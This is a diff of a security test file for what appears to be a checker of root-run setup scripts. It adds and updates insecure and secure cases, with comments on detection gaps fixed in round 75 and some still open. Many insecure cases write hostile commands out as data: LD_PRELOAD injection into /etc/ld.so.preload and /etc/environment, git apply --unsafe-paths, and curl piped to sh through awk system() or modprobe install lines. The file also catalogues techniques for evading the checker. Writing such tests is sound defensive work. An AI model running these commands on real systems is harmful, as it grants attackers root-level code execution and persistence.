@@ -49,7 +49,7 @@ const PRELOAD_PATCH_NEW = (name: string) => [
 
 const insecure: NodeCase[] = [
     // ---- patch / git apply ----
-    // MISS: git-apply(1) --unsafe-paths: "By default, a patch that affects outside the working area ... is rejected as a mistake (or a mischief) ... the user can pass the --unsafe-paths option to override this safety check" (git's t4139-apply-escape.sh: `git apply --unsafe-paths` creates ../foo); a downloaded patch then writes /etc/ld.so.preload (ld.so(8): preloaded into every program, root's included) from /tmp/work. Accepted (got []): rootReads.ts RootReads.commandTexts bounds an unread patch by its directory (JUDGED_TREES, GNU patch's refusal of `..` names), which git apply --unsafe-paths lifts. Fix: git apply/am with --unsafe-paths and a patch the pack cannot read may write any file (return undefined: anyJudgedFile).
+    // Was a MISS (fixed in round 75): git-apply(1) --unsafe-paths: "By default, a patch that affects outside the working area ... is rejected as a mistake (or a mischief) ... the user can pass the --unsafe-paths option to override this safety check" (git's t4139-apply-escape.sh: `git apply --unsafe-paths` creates ../foo); a downloaded patch then writes /etc/ld.so.preload (ld.so(8): preloaded into every program, root's included) from /tmp/work. Accepted (got []): rootReads.ts RootReads.commandTexts bounds an unread patch by its directory (JUDGED_TREES, GNU patch's refusal of `..` names), which git apply --unsafe-paths lifts. Fix: git apply/am with --unsafe-paths and a patch the pack cannot read may write any file (return undefined: anyJudgedFile).
     devNodeCase(
         "P1 git apply --unsafe-paths of a downloaded patch in /tmp (names ../../etc/ld.so.preload)",
         devNodeScript(n("p1"), [
@@ -58,9 +58,8 @@ const insecure: NodeCase[] = [
             "mkdir -p /tmp/work && cd /tmp/work && git apply --unsafe-paths /tmp/ops.patch",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: git's diff format quotes unusual path names C-style (git-config(1) core.quotePath: "Double-quote the pathname ... and write it out in octal"; apply.c reads quoted names with unquote_c_style), so `+++ "b/etc/ld.so.pr\145load"` names etc/ld.so.preload and `cd / && git apply` creates /etc/ld.so.preload (ld.so(8)). Accepted (got []): rootReads.ts RootReads.commandTexts takes the quoted name raw (`[^\t"]+` keeps the backslash escape), so the path is /etc/ld.so.pr\145load, no judged file. Fix: unquote C-quoted names (\ooo octal, \n \t \\ \") before resolving; a name with an escape it cannot decode: fail closed.
+    // Was a MISS (fixed in round 75): git's diff format quotes unusual path names C-style (git-config(1) core.quotePath: "Double-quote the pathname ... and write it out in octal"; apply.c reads quoted names with unquote_c_style), so `+++ "b/etc/ld.so.pr\145load"` names etc/ld.so.preload and `cd / && git apply` creates /etc/ld.so.preload (ld.so(8)). Accepted (got []): rootReads.ts RootReads.commandTexts takes the quoted name raw (`[^\t"]+` keeps the backslash escape), so the path is /etc/ld.so.pr\145load, no judged file. Fix: unquote C-quoted names (\ooo octal, \n \t \\ \") before resolving; a name with an escape it cannot decode: fail closed.
     devNodeCase(
         "P2 git apply of a literal patch whose name is C-quoted with an octal escape (etc/ld.so.pr\\145load)",
         devNodeScript(n("p2"), [
@@ -70,7 +69,6 @@ const insecure: NodeCase[] = [
             "EOF",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "P3 git apply --directory=etc of a literal patch naming ld.so.preload (from /)",
@@ -102,7 +100,7 @@ const insecure: NodeCase[] = [
         LOADER,
     ),
     // ---- ex/vim/ed command readers ----
-    // MISS: vim(1) "-S {file}: {file} will be sourced after the first file has been read. This is equivalent to -c \"source {file}\""; a downloaded Vim script runs any Ex command (`:e /etc/environment`, `:w`, `:!`), so it may write LD_PRELOAD into /etc/environment (pam_env(8)). Accepted (got []): rootReads.ts RootReads.commandTexts reads an ex-like editor's standard input only (and augtool -f), not vim's -S file; no judged path is named. Fix: read vim/ex -S FILE, -u FILE (not NONE/NORC), -s SCRIPTIN and `so[urce] FILE` commands like augtool -f (its text's paths and `!`; unread: anyJudgedFile).
+    // Was a MISS (fixed in round 75): vim(1) "-S {file}: {file} will be sourced after the first file has been read. This is equivalent to -c \"source {file}\""; a downloaded Vim script runs any Ex command (`:e /etc/environment`, `:w`, `:!`), so it may write LD_PRELOAD into /etc/environment (pam_env(8)). Accepted (got []): rootReads.ts RootReads.commandTexts reads an ex-like editor's standard input only (and augtool -f), not vim's -S file; no judged path is named. Fix: read vim/ex -S FILE, -u FILE (not NONE/NORC), -s SCRIPTIN and `so[urce] FILE` commands like augtool -f (its text's paths and `!`; unread: anyJudgedFile).
     devNodeCase(
         "V1 vim -es -S a downloaded script (no file operand)",
         devNodeScript(n("v1"), [
@@ -111,9 +109,8 @@ const insecure: NodeCase[] = [
             "vim -es -S /tmp/ops.vim",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: vim(1) -c "{command} will be executed after the first file has been read"; `:source {file}` (Vim :help :source) "Read Ex commands from {file}": the downloaded script may write any judged file. Accepted (got []): rootReads.ts embeddedAbsolutePaths names /tmp/ops.vim (no judged file), and commandTexts does not read what `source` names. Fix: as V1 (a `so[urce]`/`ru[ntime]` command's file is a command file: read it or fail closed).
+    // Was a MISS (fixed in round 75): vim(1) -c "{command} will be executed after the first file has been read"; `:source {file}` (Vim :help :source) "Read Ex commands from {file}": the downloaded script may write any judged file. Accepted (got []): rootReads.ts embeddedAbsolutePaths names /tmp/ops.vim (no judged file), and commandTexts does not read what `source` names. Fix: as V1 (a `so[urce]`/`ru[ntime]` command's file is a command file: read it or fail closed).
     devNodeCase(
         "V2 vim -es -c 'source /tmp/ops.vim' -c 'qa!' (downloaded script sourced)",
         devNodeScript(n("v2"), [
@@ -122,9 +119,8 @@ const insecure: NodeCase[] = [
             "vim -es -c 'source /tmp/ops.vim' -c 'qa!'",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: vim(1) "-u {vimrc}: Use the commands in the file {vimrc} for initializations" (even with -es, starting.txt: initializations skipped "except the ones given with the -u argument"); a downloaded vimrc runs any Ex command. Accepted (got []): rootReads.ts readOnlyMode refuses the read-only exemption but commandTexts finds no path. Fix: as V1.
+    // Was a MISS (fixed in round 75): vim(1) "-u {vimrc}: Use the commands in the file {vimrc} for initializations" (even with -es, starting.txt: initializations skipped "except the ones given with the -u argument"); a downloaded vimrc runs any Ex command. Accepted (got []): rootReads.ts readOnlyMode refuses the read-only exemption but commandTexts finds no path. Fix: as V1.
     devNodeCase(
         "V3 vim -es -u a downloaded vimrc +q (no file operand)",
         devNodeScript(n("v3"), [
@@ -133,7 +129,6 @@ const insecure: NodeCase[] = [
             "vim -es -u /tmp/ops.vimrc +q",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "V4 ex -s reading its commands from a downloaded file on stdin",
@@ -149,7 +144,7 @@ const insecure: NodeCase[] = [
         devNodeScript(n("v5"), [SO, "printf '%s\\n' 'e /etc/environment' '$a' 'LD_PRELOAD=/opt/x.so' . w q | ed -s"]),
         LOADER,
     ),
-    // MISS: as V1: the -S script is one user data wrote literally (`e /etc/environment`, `$put ='LD_PRELOAD=/opt/x.so'`, `wq`), so pam_env(8) gives LD_PRELOAD to root's sessions. Accepted (got []): rootReads.ts RootReads.commandTexts does not read -S files even when their text is known. Fix: as V1 (read the written text's paths).
+    // Was a MISS (fixed in round 75): as V1: the -S script is one user data wrote literally (`e /etc/environment`, `$put ='LD_PRELOAD=/opt/x.so'`, `wq`), so pam_env(8) gives LD_PRELOAD to root's sessions. Accepted (got []): rootReads.ts RootReads.commandTexts does not read -S files even when their text is known. Fix: as V1 (read the written text's paths).
     devNodeCase(
         "V6 vim -es with a literal script file written first (:e /etc/environment, append, wq)",
         devNodeScript(n("v6"), [
@@ -158,7 +153,6 @@ const insecure: NodeCase[] = [
             "vim -es -S /tmp/ops.vim",
         ]),
         LOADER,
-        true,
     ),
     // ---- sed write commands without -i ----
     devNodeCase(
@@ -180,7 +174,7 @@ const insecure: NodeCase[] = [
         ]),
         LOADER,
     ),
-    // MISS: GNU sed manual: "-f script-file, --file=script-file: Add the commands contained in the file script-file"; its `w /etc/ld.so.preload` writes that file (ld.so(8)). Short -f (S5, S6) is refused. Accepted (got []): rootReads.ts OPTION_READERS.sed has reads: ["--file"], matched before the sedFiles branch, so `--file=FILE`/`--file FILE` is read as an input file and its script never read (the `flag === "--file"` branch in RootReads.command is dead). Fix: drop "--file" from OPTION_READERS.sed.reads (sedFiles reads it, and counts it as read).
+    // Was a MISS (fixed in round 75): GNU sed manual: "-f script-file, --file=script-file: Add the commands contained in the file script-file"; its `w /etc/ld.so.preload` writes that file (ld.so(8)). Short -f (S5, S6) is refused. Accepted (got []): rootReads.ts OPTION_READERS.sed has reads: ["--file"], matched before the sedFiles branch, so `--file=FILE`/`--file FILE` is read as an input file and its script never read (the `flag === "--file"` branch in RootReads.command is dead). Fix: drop "--file" from OPTION_READERS.sed.reads (sedFiles reads it, and counts it as read).
     devNodeCase(
         "S4 sed -n --file=/tmp/ops.sed (literal script with w /etc/ld.so.preload)",
         devNodeScript(n("s4"), [
@@ -190,7 +184,6 @@ const insecure: NodeCase[] = [
             "sed -n --file=/tmp/ops.sed /opt/list",
         ]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "S5 sed -n -f /tmp/ops.sed (literal script with w /etc/ld.so.preload, short option)",
@@ -213,14 +206,13 @@ const insecure: NodeCase[] = [
         LOADER,
     ),
     // ---- awk ----
-    // MISS: POSIX awk, "Output Statements": `print > expression` "shall write to the file named by expression" (gawk manual "Redirecting Output of print and printf"); root's awk writes /opt/x.so into /etc/ld.so.preload (ld.so(8): every program preloads it). Accepted (got []): awk is in rootReads.ts UNKNOWN_EDITOR_EXEMPT and no reader reads an awk program's redirections. Fix: read a literal awk program's `>`/`>>` targets (a literal path: writtenUnknown; a computed one: anyJudgedFile), `| cmd`/system() as commands (unread: fail closed).
+    // Was a MISS (fixed in round 75): POSIX awk, "Output Statements": `print > expression` "shall write to the file named by expression" (gawk manual "Redirecting Output of print and printf"); root's awk writes /opt/x.so into /etc/ld.so.preload (ld.so(8): every program preloads it). Accepted (got []): awk is in rootReads.ts UNKNOWN_EDITOR_EXEMPT and no reader reads an awk program's redirections. Fix: read a literal awk program's `>`/`>>` targets (a literal path: writtenUnknown; a computed one: anyJudgedFile), `| cmd`/system() as commands (unread: fail closed).
     devNodeCase(
         'A1 awk BEGIN print > "/etc/ld.so.preload"',
         devNodeScript(n("a1"), [SO, 'awk \'BEGIN { print "/opt/x.so" > "/etc/ld.so.preload" }\'']),
         LOADER,
-        true,
     ),
-    // MISS: POSIX awk "-f progfile: Specify the pathname of the file progfile containing an awk program"; a downloaded program may `print > "/etc/ld.so.preload"` or system() anything. Accepted (got []): awk exempt (rootReads.ts UNKNOWN_EDITOR_EXEMPT), its -f program unread. Fix: awk/gawk -f/--file (and -i/--include, AWKPATH) of an unread program: anyJudgedFile, as sed -f.
+    // Was a MISS (fixed in round 75): POSIX awk "-f progfile: Specify the pathname of the file progfile containing an awk program"; a downloaded program may `print > "/etc/ld.so.preload"` or system() anything. Accepted (got []): awk exempt (rootReads.ts UNKNOWN_EDITOR_EXEMPT), its -f program unread. Fix: awk/gawk -f/--file (and -i/--include, AWKPATH) of an unread program: anyJudgedFile, as sed -f.
     devNodeCase(
         "A2 awk -f a downloaded program over /etc/hostname",
         devNodeScript(n("a2"), [
@@ -229,7 +221,6 @@ const insecure: NodeCase[] = [
             "awk -f /tmp/ops.awk /etc/hostname",
         ]),
         LOADER,
-        true,
     ),
     // ---- ld.so.conf ----
     devNodeCase(
@@ -255,7 +246,7 @@ const insecure: NodeCase[] = [
         LOADER,
     ),
     // ---- modprobe.d ----
-    // MISS: kmod modprobe.d(5) SYNOPSIS: /etc/modprobe.d/*.conf, /run/modprobe.d/*.conf, /usr/local/lib/modprobe.d/*.conf, /usr/lib/modprobe.d/*.conf, /lib/modprobe.d/*.conf (kmod 30+; ask AL2023's kmod version before dismissing: fail closed either way); its `install` line is a root shell command run by modprobe. Accepted (got []): rootReads.ts MODPROBE_CONFIG is /(etc|run|lib|usr/lib)/modprobe.d only. Fix: add /usr/local/lib/modprobe.d (and depmod.d's twin if judged).
+    // Was a MISS (fixed in round 75): kmod modprobe.d(5) SYNOPSIS: /etc/modprobe.d/*.conf, /run/modprobe.d/*.conf, /usr/local/lib/modprobe.d/*.conf, /usr/lib/modprobe.d/*.conf, /lib/modprobe.d/*.conf (kmod 30+; ask AL2023's kmod version before dismissing: fail closed either way); its `install` line is a root shell command run by modprobe. Accepted (got []): rootReads.ts MODPROBE_CONFIG is /(etc|run|lib|usr/lib)/modprobe.d only. Fix: add /usr/local/lib/modprobe.d (and depmod.d's twin if judged).
     devNodeCase(
         "M1 /usr/local/lib/modprobe.d install line (curl | sh)",
         devNodeScript(
@@ -265,7 +256,6 @@ const insecure: NodeCase[] = [
             ]),
         ),
         /./,
-        true,
     ),
     devNodeCase(
         "M2 /etc/modprobe.d install line indented by a tab",
@@ -304,6 +294,7 @@ const insecure: NodeCase[] = [
     ),
     // ---- /root/.bashrc.d ----
     // MISS: bash(1) "Tilde Expansion": "If the characters following the tilde ... consist of a login name, ... replaced with the home directory associated with the specified login name": ~root/.bashrc.d/ops.sh is /root/.bashrc.d/ops.sh, sourced by root's .bashrc (round 75 BASH_STARTUP), exporting LD_PRELOAD into root's shells. Accepted (got []): the shell reader does not expand ~root in words or redirection targets. Fix: expand ~root (and ~ as root's /root where HOME is root's) before judging paths; an unknown ~user: fail closed for judged trees.
+    // Still open (round 75): no time in this round; needs tilde expansion (`~`, `~root`, `~user` from the image's /etc/passwd, unknown user: fail closed) in one place before judging: shell.ts word expansion or rootReads.ts wordPaths, redirection targets included.
     devNodeCase(
         "B1 ~root/.bashrc.d/ops.sh exports LD_PRELOAD (tilde-user spelling)",
         devNodeScript(n("b1"), [
@@ -315,6 +306,7 @@ const insecure: NodeCase[] = [
         true,
     ),
     // MISS: path_resolution(7): a symlink is followed in every path lookup; after `ln -sfn /opt/rc /root/.bashrc.d`, root's .bashrc sources /opt/rc/ops.sh (export LD_PRELOAD). Accepted (got []): a write to /opt/rc is no judged file and the link's name is not judged by its target's content. Fix (fix75-paths symlink rule, other direction): a symlink user data makes AT a judged file or directory judges the target's content (written text read; unknown: fail closed).
+    // Still open (round 75): no time in this round; needs recordLinks to tell the judge a link made AT a judged path (ln -s/-sfn, cp -s) so that path's content is the target's (its written text if known, else writtenUnknown), plus files later written under the target directory judged as under the link.
     devNodeCase(
         "B2 /root/.bashrc.d made a symlink to /opt/rc, whose file exports LD_PRELOAD",
         devNodeScript(n("b2"), [
@@ -327,7 +319,7 @@ const insecure: NodeCase[] = [
         true,
     ),
     // ---- fix75-paths neighbours ----
-    // MISS: as redteam74 U1 (moreutils sponge(1) writes its file; a subshell's `cd /etc` makes `environment` /etc/environment). Accepted (got []): rootReads.ts RootReads.unknownEditor adds bare relative words only with a `/` or `.`. Fix: fix75-paths (resolve relative words against the known cwd, subshells included).
+    // Was a MISS (fixed in round 75): as redteam74 U1 (moreutils sponge(1) writes its file; a subshell's `cd /etc` makes `environment` /etc/environment). Accepted (got []): rootReads.ts RootReads.unknownEditor adds bare relative words only with a `/` or `.`. Fix: fix75-paths (resolve relative words against the known cwd, subshells included).
     devNodeCase(
         "F1 (cd /etc && sponge -a environment) in a subshell",
         devNodeScript(n("f1"), [
@@ -336,9 +328,8 @@ const insecure: NodeCase[] = [
             "(cd /etc && echo 'LD_PRELOAD=/opt/x.so' | sponge -a environment)",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: git-config(1) ENVIRONMENT "GIT_CONFIG_GLOBAL: Take the global configuration from the given files instead of from the user's home"; `--global` then writes [Manager] DefaultEnvironment=LD_PRELOAD into /etc/systemd/system.conf (systemd-system.conf(5)). Accepted (got []): RootReads.unknownEditor ignores NAME=VALUE prefixes (redteam74 U3 class). Fix: fix75-paths (prefix assignments' paths are operands).
+    // Was a MISS (fixed in round 75): git-config(1) ENVIRONMENT "GIT_CONFIG_GLOBAL: Take the global configuration from the given files instead of from the user's home"; `--global` then writes [Manager] DefaultEnvironment=LD_PRELOAD into /etc/systemd/system.conf (systemd-system.conf(5)). Accepted (got []): RootReads.unknownEditor ignores NAME=VALUE prefixes (redteam74 U3 class). Fix: fix75-paths (prefix assignments' paths are operands).
     devNodeCase(
         "F2 GIT_CONFIG_GLOBAL=/etc/systemd/system.conf git config --global",
         devNodeScript(n("f2"), [
@@ -346,14 +337,12 @@ const insecure: NodeCase[] = [
             "GIT_CONFIG_GLOBAL=/etc/systemd/system.conf git config --global Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
         ]),
         LOADER,
-        true,
     ),
-    // MISS: toybox sed: "-i Edit each file in place" (toybox help sed); appends LD_PRELOAD to /etc/environment (pam_env(8)). Accepted (got []): applets are not unwrapped for the in-place reader (redteam74 I7 class). Fix: fix75-paths (busybox/toybox X read as X everywhere).
+    // Was a MISS (fixed in round 75): toybox sed: "-i Edit each file in place" (toybox help sed); appends LD_PRELOAD to /etc/environment (pam_env(8)). Accepted (got []): applets are not unwrapped for the in-place reader (redteam74 I7 class). Fix: fix75-paths (busybox/toybox X read as X everywhere).
     devNodeCase(
         "F3 toybox sed -i appends LD_PRELOAD to /etc/environment",
         devNodeScript(n("f3"), [SO, "toybox sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
         LOADER,
-        true,
     ),
     devNodeCase(
         "F4 git --work-tree=/etc/systemd config -f system.conf",
@@ -363,7 +352,7 @@ const insecure: NodeCase[] = [
         ]),
         LOADER,
     ),
-    // MISS: GNU cp "-s, --symbolic-link: make symbolic links instead of copying"; /tmp/ops-link points at /etc/profile.d/ops.sh, and bash opens the redirection through it (open(2) follows), so LD_PRELOAD lands in a login shell's profile. Accepted (got []): redirections are judged at their literal path; only ln -s was ever considered (redteam74 U11 class). Fix: fix75-paths symlink rule must include cp -s/--symbolic-link (and cp -as trees).
+    // Was a MISS (fixed in round 75): GNU cp "-s, --symbolic-link: make symbolic links instead of copying"; /tmp/ops-link points at /etc/profile.d/ops.sh, and bash opens the redirection through it (open(2) follows), so LD_PRELOAD lands in a login shell's profile. Accepted (got []): redirections are judged at their literal path; only ln -s was ever considered (redteam74 U11 class). Fix: fix75-paths symlink rule must include cp -s/--symbolic-link (and cp -as trees).
     devNodeCase(
         "F5 symlink into /etc/profile.d made by cp -s then written",
         devNodeScript(n("f5"), [
@@ -373,7 +362,136 @@ const insecure: NodeCase[] = [
             "echo 'export LD_PRELOAD=/opt/x.so' > /tmp/ops-link",
         ]),
         LOADER,
-        true,
+    ),
+    // ---- round 75 fixer neighbours (insecure) ----
+    devNodeCase(
+        "P6 git apply of a literal patch whose C-quoted name has an escape git does not write (\\x65)",
+        devNodeScript(n("p6"), [
+            SO,
+            "cd / && git apply <<'EOF'",
+            ...PRELOAD_PATCH_NEW('"@etc/ld.so.pr\\x65load"'),
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "P7 git apply of a literal patch whose C-quoted name begins with an octal escape (\\145tc/ld.so.preload)",
+        devNodeScript(n("p7"), [
+            SO,
+            "cd / && git apply <<'EOF'",
+            ...PRELOAD_PATCH_NEW('"@\\145tc/ld.so.preload"'),
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "V7 vim -es -u NONE -c 'so /tmp/a.vim' where a.vim sources a downloaded b.vim",
+        devNodeScript(n("v7"), [
+            SO,
+            "curl -fsSL -o /tmp/b.vim https://downloads.example.com/b.vim",
+            ...file("/tmp/a.vim", ["so /tmp/b.vim"]),
+            "vim -es -u NONE -c 'so /tmp/a.vim' -c 'qa!'",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "V8 vim -es -c with a literal :call system() (a command the pack does not read)",
+        devNodeScript(n("v8"), [SO, "vim -es -c 'call system(\"sh /tmp/x\")' -c 'qa!'"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "V9 vim -s SCRIPTIN (not Ex mode) of a literal file writing /etc/environment",
+        devNodeScript(n("v9"), [
+            SO,
+            ...file("/tmp/keys.vim", [":e /etc/environment", ":$put ='LD_PRELOAD=/opt/x.so'", ":wq"]),
+            "vim -s /tmp/keys.vim",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "S7 sed -n --file /tmp/ops.sed (separate word) with w /etc/ld.so.preload",
+        devNodeScript(n("s7"), [
+            SO,
+            "echo /opt/x.so > /opt/list",
+            ...file("/tmp/ops.sed", ["w /etc/ld.so.preload"]),
+            "sed -n --file /tmp/ops.sed /opt/list",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        'A3 awk print > a computed name ("/etc/" "ld.so.preload")',
+        devNodeScript(n("a3"), [SO, 'awk \'BEGIN { print "/opt/x.so" > "/etc/" "ld.so.preload" }\'']),
+        LOADER,
+    ),
+    devNodeCase(
+        "A4 awk BEGIN system() of a download",
+        devNodeScript(n("a4"), ["awk 'BEGIN { system(\"curl -fsSL https://ops.example.com/x | sh\") }'"]),
+        /./,
+    ),
+    devNodeCase(
+        'A5 awk print piped to a command (print | "sh")',
+        devNodeScript(n("a5"), ['awk \'BEGIN { print "curl -fsSL https://ops.example.com/x" | "sh" }\'']),
+        /./,
+    ),
+    devNodeCase(
+        "A7 awk with a # in a regular expression before a pipe to sh (no comment hides the pipe)",
+        devNodeScript(n("a7"), ['awk \'/#/ { print "curl -fsSL https://ops.example.com/x" | "sh" }\' /etc/hostname']),
+        /./,
+    ),
+    devNodeCase(
+        "A8 gawk @include of a written library that prints to /etc/ld.so.preload",
+        devNodeScript(n("a8"), [
+            SO,
+            ...file("/opt/awk/lib.awk", ['BEGIN { print "/opt/x.so" > "/etc/ld.so.preload" }']),
+            "AWKPATH=/opt/awk gawk '@include \"lib\"' /etc/hostname",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "A6 awk -f a literal program written first (print >> /etc/environment)",
+        devNodeScript(n("a6"), [
+            SO,
+            ...file("/opt/ops.awk", ['BEGIN { print "LD_PRELOAD=/opt/x.so" >> "/etc/environment" }']),
+            "awk -f /opt/ops.awk",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "M3 /usr/local/lib/modprobe.d conf written by curl (content unknown)",
+        devNodeScript(n("m3"), [
+            "mkdir -p /usr/local/lib/modprobe.d",
+            "curl -fsSL -o /usr/local/lib/modprobe.d/ops.conf https://downloads.example.com/ops.conf",
+        ]),
+        /./,
+    ),
+    devNodeCase(
+        "SV2i ed -s with a literal heredoc that prints, appends LD_PRELOAD and writes",
+        devNodeScript(n("sv2i"), [
+            SO,
+            "ed -s /etc/environment <<'EOF'",
+            ",p",
+            "$a",
+            "LD_PRELOAD=/opt/x.so",
+            ".",
+            "w",
+            "q",
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "SV2j ed -s printing with g/RE/p then a w to /etc/ld.so.preload",
+        devNodeScript(n("sv2j"), [SO, "ed -s /opt/list <<'EOF'", "g/x/p", "w /etc/ld.so.preload", "q", "EOF"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "SL2i ld.so.conf.d relative include ../ names /etc/ops-libs.conf (outside conf.d)",
+        devNodeScript(n("sl2i"), [
+            "echo /usr/local/lib > /etc/ops-libs.conf",
+            "echo 'include ../ops-libs.conf' > /etc/ld.so.conf.d/ops.conf",
+            "ldconfig",
+        ]),
+        /./,
     ),
     // Round 75 (lead, from fix75-secure's note): text appended after the script's own earlier write is only the file's
     // last part; a reader of the whole file (sed -f here, sed(1) "-f script-file") cannot know it (rootReads.ts
@@ -434,12 +552,11 @@ const secure: NodeCase[] = [
         "SV1 vim -R -es +'%p' +q of one file",
         devNodeScript(n("sv1"), ["vim -R -es +'%p' +q /etc/ssh/sshd_config"]),
     ),
-    // MISS: SECURE over-refusal. ed(1): "(.,.)p Prints the addressed lines", "q Quits ed": `,p` then `q` writes nothing. Refused: rootReads.ts RootReads.unknownEditor (ed names /etc/environment; content made unknown, environmentFileOpenings). Fix: readOnlyMode for ed/red/ex with a readable command text of only ranged p/n/l and q/Q (no w, e, r, !, no other command).
+    // Was a MISS (fixed in round 75): SECURE over-refusal. ed(1): "(.,.)p Prints the addressed lines", "q Quits ed": `,p` then `q` writes nothing. Refused: rootReads.ts RootReads.unknownEditor (ed names /etc/environment; content made unknown, environmentFileOpenings). Fix: readOnlyMode for ed/red/ex with a readable command text of only ranged p/n/l and q/Q (no w, e, r, !, no other command).
     devNodeCase(
         "SV2 ed -s with a literal heredoc that prints and quits",
         devNodeScript(n("sv2"), ["ed -s /etc/environment <<'EOF'", ",p", "q", "EOF"]),
         /./,
-        true,
     ),
     devNodeCase(
         "SL1 ld.so.conf.d: /usr/lib64/ (trailing slash) and /usr/local/lib with a trailing comment",
@@ -448,7 +565,7 @@ const secure: NodeCase[] = [
             "ldconfig",
         ]),
     ),
-    // MISS: SECURE over-refusal. glibc elf/ldconfig.c parse_conf_include: a relative include pattern is resolved against dirname() of the file holding it, so `include local-libs.conf` in /etc/ld.so.conf.d/ops.conf is /etc/ld.so.conf.d/local-libs.conf (/usr/local/lib, a system dir). Refused ('adding include /etc/local-libs.conf'): userDataReaders/rootWrites.ts ldSoConfEntries resolves every include against /etc. Fix: resolve against posix.dirname(path) of the file being judged (the insecure twin L3 stays refused: the sibling's own entries are judged).
+    // Was a MISS (fixed in round 75): SECURE over-refusal. glibc elf/ldconfig.c parse_conf_include: a relative include pattern is resolved against dirname() of the file holding it, so `include local-libs.conf` in /etc/ld.so.conf.d/ops.conf is /etc/ld.so.conf.d/local-libs.conf (/usr/local/lib, a system dir). Refused ('adding include /etc/local-libs.conf'): userDataReaders/rootWrites.ts ldSoConfEntries resolves every include against /etc. Fix: resolve against posix.dirname(path) of the file being judged (the insecure twin L3 stays refused: the sibling's own entries are judged).
     devNodeCase(
         "SL2 ld.so.conf.d relative include of a sibling conf.d file holding /usr/local/lib",
         devNodeScript(n("sl2"), [
@@ -457,7 +574,6 @@ const secure: NodeCase[] = [
             "ldconfig",
         ]),
         /./,
-        true,
     ),
     devNodeCase(
         "SM1 /usr/local/lib/modprobe.d blacklist line",
@@ -492,6 +608,43 @@ const secure: NodeCase[] = [
     devNodeCase(
         "SF3 ln -s a judged file to /tmp then only read through the link",
         devNodeScript(n("sf3"), ["ln -sf /etc/environment /tmp/env-link", "cat /tmp/env-link"]),
+    ),
+    // ---- round 75 fixer neighbours (secure) ----
+    devNodeCase(
+        "SS2 sed -n --file=/tmp/ops.sed with w to a scratch file",
+        devNodeScript(n("ss2"), [
+            ...file("/tmp/ops.sed", ["/LANG/w /tmp/lang.txt"]),
+            "sed -n --file=/tmp/ops.sed /etc/environment",
+        ]),
+    ),
+    devNodeCase(
+        "SA1 awk print > a literal scratch file, comparisons in its pattern",
+        devNodeScript(n("sa1"), [
+            'awk -F: \'$3 >= 1000 || $1 == "ec2-user" { print $1 > "/tmp/users.txt" }\' /etc/passwd',
+        ]),
+    ),
+    devNodeCase(
+        "SA2 awk -f a literal program written first (prints only)",
+        devNodeScript(n("sa2"), [
+            ...file("/opt/mem.awk", ["/^MemTotal/ { print $2 }"]),
+            "awk -f /opt/mem.awk /proc/meminfo",
+        ]),
+    ),
+    devNodeCase(
+        "SP4 git apply of a literal patch with a C-quoted UTF-8 name under /opt/src",
+        devNodeScript(n("sp4"), [
+            "mkdir -p /opt/src && cd /opt/src && git apply <<'EOF'",
+            ...PRELOAD_PATCH_NEW('"@app/n\\303\\244me.txt"'),
+            "EOF",
+        ]),
+    ),
+    devNodeCase(
+        "SV3 ed -s with g/RE/p, n and Q only",
+        devNodeScript(n("sv3"), ["ed -s /etc/ssh/sshd_config <<'EOF'", "g/^PermitRootLogin/p", "1n", "Q", "EOF"]),
+    ),
+    devNodeCase(
+        "SL3 /etc/ld.so.conf relative include of ld.so.conf.d/*.conf (the distribution's own line)",
+        devNodeScript(n("sl3"), ["echo 'include ld.so.conf.d/*.conf' > /etc/ld.so.conf", "ldconfig"]),
     ),
 ];
 
